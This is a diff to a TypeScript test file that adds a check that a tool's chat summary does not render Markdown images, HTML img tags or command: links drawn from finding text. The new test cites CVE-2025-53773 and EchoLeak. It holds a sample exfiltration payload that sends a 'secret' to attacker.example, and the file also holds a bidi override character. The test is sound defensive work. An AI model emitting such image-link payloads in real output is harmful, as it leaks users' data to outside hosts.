@@ -17,6 +17,8 @@ import { colouredDiff, findingLines } from "../../server/surfaces/cli/display/su
 import { sarifText } from "../../server/surfaces/cli/display/sarif-file.ts";
 import { describeFinding } from "../../server/surfaces/lsp/diagnostics.ts";
 import { createLocalizer } from "../../schemas/localizer.ts";
+import { summarise } from "../../client/chat/summary.ts";
+import { code } from "../../client/tree/item.ts";
 import { aFinding } from "../support/records.ts";
 
 const ESC = "\u001b";
@@ -109,6 +111,25 @@ describe("text of others elsewhere", () => {
     const explanation = '![a](https://e.example/?x) <img src="https://e.example/y"> <IMG src=z> a\u202eb';
     const shown = describeFinding(aFinding({ explanation }), createLocalizer({}));
     assert.doesNotMatch(shown, /!\[|(?<!\\)<img|\u202e/i);
+  });
+
+  it("loads nothing in chat, whose view shows the pictures of a Markdown text (CVE-2025-53773, EchoLeak)", () => {
+    const picture =
+      "x\n\n![x](https://attacker.example/?q=secret) <img src=https://attacker.example> [y](command:z)";
+    const proof = { gate: "green", held: false, reason: picture };
+    const finding = { severity: "Warning", title: picture, path: `src/${picture}`, start_line: 1 };
+    const change = { path: picture, lines_added: 1, lines_removed: 0, decision: "Pending" };
+    const end = {
+      status: "GateFailed" as const,
+      stages: [{ gates: [proof] }],
+      changes: [change],
+      findings: [finding],
+      error: { message: picture, next_step: picture },
+    };
+    const shown = summarise({ run: { changes: [change] }, end }, createLocalizer({}));
+    assert.equal(shown.match(/attacker/g)?.length, 12);
+    assert.doesNotMatch(shown, /(?<!\\)[<[]|\]\(|!\[/);
+    assert.doesNotMatch(code(picture), /\n/);
   });
 
   it("is plain in SARIF", () => {
